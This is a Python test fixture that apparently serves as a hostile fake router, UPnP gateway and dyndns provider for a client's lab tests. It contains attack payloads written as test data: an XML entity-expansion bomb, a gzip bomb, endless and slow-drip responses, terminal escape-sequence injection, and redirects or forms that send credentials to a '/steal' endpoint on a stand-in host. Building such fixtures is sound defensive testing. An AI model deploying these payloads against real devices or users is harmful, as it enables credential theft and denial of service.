#!/usr/bin/env python3
"""Hostile fake router / provider / witness for homeport's lab tests (HostileNetworkIT).

Runs inside a lab namespace. Every request is appended to --log as "METHOD PATH | header lines | body", so a test can
check what reached it. Modes:
  witness        answers 200 to anything (a server on another address that must never be contacted)
  web-foreign    Netgear-ACOS-like admin pages whose Dynamic DNS form posts to --witness (another origin)
  web-endless    the Dynamic DNS page never ends
  web-gzipbomb   the Dynamic DNS page is a small gzip body that expands to 100 MB
  web-echo       the Dynamic DNS apply answers an alert echoing the Authorization header, the posted fields and an
                 ESC sequence
  igd-repeat     an IGD whose GetGenericPortMappingEntry answers the same entry for every index
  igd-endless    an IGD that answers a new entry for every index
  igd-utf16      an IGD whose description is UTF-16 with a DOCTYPE (entity expansion)
  igd            a plain IGD (with --ssdp: a rogue gateway answering M-SEARCH)
  provider-echo  a dyndns2 provider whose answer echoes the Authorization header and an ESC sequence
  provider-redirect  a dyndns2 provider redirecting to the witness with the credentials in the URL
  ssdp-drip      answers M-SEARCH with 40 LOCATIONs whose descriptions drip one byte a second
"""
import argparse, base64, gzip, socket, socketserver, struct, threading, time, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

A = argparse.ArgumentParser()
A.add_argument("--bind", required=True)
A.add_argument("--port", type=int, required=True)
A.add_argument("--mode", required=True)
A.add_argument("--log", required=True)
A.add_argument("--witness", default="")
A.add_argument("--ssdp", action="store_true")
A.add_argument("--wan", default="203.0.113.66")
ARGS = A.parse_args()
LOCK = threading.Lock()

IGD = """<?xml version="1.0"?>
<root xmlns="urn:schemas-upnp-org:device-1-0"><specVersion><major>1</major><minor>0</minor></specVersion>
<device><deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType>
<friendlyName>%(name)s</friendlyName><manufacturer>Hostile</manufacturer><modelName>Fake</modelName>
<UDN>uuid:%(uuid)s</UDN><deviceList><device><deviceType>urn:schemas-upnp-org:device:WANDevice:1</deviceType>
<friendlyName>WAN</friendlyName><manufacturer>Hostile</manufacturer><modelName>Fake</modelName>
<UDN>uuid:%(uuid)s-1</UDN><deviceList><device><deviceType>urn:schemas-upnp-org:device:WANConnectionDevice:1</deviceType>
<friendlyName>WANConn</friendlyName><manufacturer>Hostile</manufacturer><modelName>Fake</modelName>
<UDN>uuid:%(uuid)s-2</UDN><serviceList><service><serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType>
<serviceId>urn:upnp-org:serviceId:WANIPConn1</serviceId><SCPDURL>/scpd.xml</SCPDURL><controlURL>/ctl</controlURL>
<eventSubURL>/evt</eventSubURL></service></serviceList></device></deviceList></device></deviceList></device></root>
"""
LAUGHS = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE root [<!ENTITY a "' + "a" * 64 + '">'
          + "".join('<!ENTITY %s "%s">' % (chr(98 + i), ("&%s;" % chr(97 + i)) * 16) for i in range(8)) + "]>\n")


def log(line):
    with LOCK, open(ARGS.log, "a") as f:
        f.write(line.replace("\n", " / ") + "\n")


def soap(action, values):
    body = "".join("<%s>%s</%s>" % (k, v, k) for k, v in values.items())
    return ('<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
            '<u:%sResponse xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">%s</u:%sResponse>'
            '</s:Body></s:Envelope>' % (action, body, action))


def page(inner):
    return "<html><head><title>R7000</title></head><body>%s</body></html>" % inner


class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def send(self, code, body, ctype="text/html", extra=None):
        data = body if isinstance(body, bytes) else body.encode("utf-8")
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        for k, v in (extra or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(data)

    def record(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n).decode("utf-8", "replace") if n else ""
        log("%s %s | %s | %s" % (self.command, self.path, str(self.headers), body))
        return body

    def do_GET(self):
        self.handle_any(self.record())

    def do_POST(self):
        self.handle_any(self.record())

    def handle_any(self, body):
        m, path = ARGS.mode, urllib.parse.urlsplit(self.path).path
        if m == "witness":
            return self.send(200, "witness")
        if m.startswith("web-"):
            return self.web(m, path, body)
        if m == "ssdp-drip":
            return self.drip()
        if m.startswith("provider-"):
            return self.provider(m, path)
        return self.igd(m, path, body)

    def web(self, m, path, body):
        if "Authorization" not in self.headers:
            return self.send(401, "auth", extra={"WWW-Authenticate": 'Basic realm="NETGEAR R7000"'})
        if path == "/FW_forward3.htm":
            return self.send(200, page('<form action="pforward.cgi" method="post"></form>'))
        if path == "/LGO_logout.htm":
            return self.send(200, page('<form action="logout.cgi" method="post"><input name="x" value="1"></form>'))
        if path == "/logout.cgi":
            return self.send(200, page("bye"))
        if path == "/DNS_ddns.htm":
            if m == "web-endless":
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                chunk = b"<p>" + b"x" * 65536 + b"</p>"
                try:
                    while True:
                        self.wfile.write(chunk)
                except (BrokenPipeError, ConnectionResetError):
                    return
            if m == "web-gzipbomb":
                return self.send(200, BOMB, extra={"Content-Encoding": "gzip"})
            action = ARGS.witness + "/steal" if m == "web-foreign" else "apply.cgi"
            return self.send(200, page('<form action="%s" method="post"><input name="sysDNSHost" value="">'
                                       '<input name="sysDNSUser"><input name="sysDNSPassword">'
                                       '<input name="sysDNSActive" type="checkbox"></form>' % action))
        if path == "/apply.cgi" and m == "web-echo":
            # The escape sequences first: homeport quotes only the first 160 characters of a router's message.
            echo = "you sent %s \x1b]0;pwned\x07\x1b[2J with %s" % (self.headers.get("Authorization"), body)
            return self.send(200, page('<script>alert("%s")</script>' % echo.replace('"', "'")))
        return self.send(200, page("ok"))

    def igd(self, m, path, body):
        if path == "/rootDesc.xml":
            name = "Rogue Gateway" if m == "igd" else "Hostile"
            xml = IGD % {"name": name, "uuid": "deadbeef-0000-1111-2222-333344445555"}
            if m == "igd-utf16":
                xml = LAUGHS + xml.split("\n", 1)[1].replace("<friendlyName>Hostile", "<friendlyName>&i;", 1)
                return self.send(200, xml.encode("utf-16"), 'text/xml; charset="utf-16"')
            return self.send(200, xml, "text/xml")
        if path != "/ctl":
            return self.send(404, "no")
        action = self.headers.get("SOAPAction", "").strip('"').split("#")[-1]
        if action == "GetExternalIPAddress":
            return self.send(200, soap(action, {"NewExternalIPAddress": ARGS.wan}), "text/xml")
        if action == "GetStatusInfo":
            return self.send(200, soap(action, {"NewConnectionStatus": "Connected", "NewUptime": "5"}), "text/xml")
        if action == "GetGenericPortMappingEntry":
            i = int(body.split("<NewPortMappingIndex>")[1].split("<")[0])
            port = 1000 if m == "igd-repeat" else 1000 + i % 60000
            return self.send(200, soap(action, {"NewRemoteHost": "", "NewExternalPort": port, "NewProtocol": "TCP",
                                                "NewInternalPort": port, "NewInternalClient": "192.0.2.99",
                                                "NewEnabled": "1", "NewPortMappingDescription": "x%d" % i,
                                                "NewLeaseDuration": "0"}), "text/xml")
        return self.send(500, "<s:Envelope/>", "text/xml")

    def provider(self, m, path):
        if path == "/ip":
            return self.send(200, "203.0.113.5\n", "text/plain")
        auth = self.headers.get("Authorization", "")
        if m == "provider-redirect":
            user_pass = base64.b64decode(auth.split(" ")[-1]).decode("utf-8", "replace")
            where = "http://%s@192.0.2.1:9090/steal?auth=%s" % (urllib.parse.quote(user_pass, safe=":"), auth.split(" ")[-1])
            return self.send(302, "moved", extra={"Location": where})
        return self.send(200, "badauth you sent %s for %s \x1b]0;pwned\x07\x1b[2J\n" % (auth, self.path), "text/plain")

    def drip(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/xml")
        self.end_headers()
        try:
            for c in IGD % {"name": "drip", "uuid": "0000"}:
                self.wfile.write(c.encode())
                self.wfile.flush()
                time.sleep(1)
        except (BrokenPipeError, ConnectionResetError):
            pass


def ssdp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", 1900))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                 struct.pack("4s4s", socket.inet_aton("239.255.255.250"), socket.inet_aton(ARGS.bind)))
    while True:
        data, peer = s.recvfrom(4096)
        if not data.startswith(b"M-SEARCH"):
            continue
        log("SSDP M-SEARCH from %s" % peer[0])
        paths = ["/d%d/rootDesc.xml" % i for i in range(40)] if ARGS.mode == "ssdp-drip" else ["/rootDesc.xml"]
        for i, p in enumerate(paths):
            msg = ("HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nEXT:\r\nSERVER: Linux UPnP/1.0 hostile/1\r\n"
                   "ST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"
                   "USN: uuid:deadbeef-0000-1111-2222-%012d::urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"
                   "LOCATION: http://%s:%d%s\r\n\r\n" % (i, ARGS.bind, ARGS.port, p))
            s.sendto(msg.encode(), peer)


BOMB = gzip.compress(b"<p>" + b"A" * (100 * 1024 * 1024), 9) if ARGS.mode == "web-gzipbomb" else b""
if ARGS.ssdp:
    threading.Thread(target=ssdp, daemon=True).start()
class Server(ThreadingHTTPServer):
    def server_bind(self):
        # HTTPServer.server_bind resolves the host name (getfqdn): no resolver answers inside the lab's namespaces.
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = ARGS.bind, ARGS.port


srv = Server((ARGS.bind, ARGS.port), H)
srv.daemon_threads = True
log("READY")
srv.serve_forever()
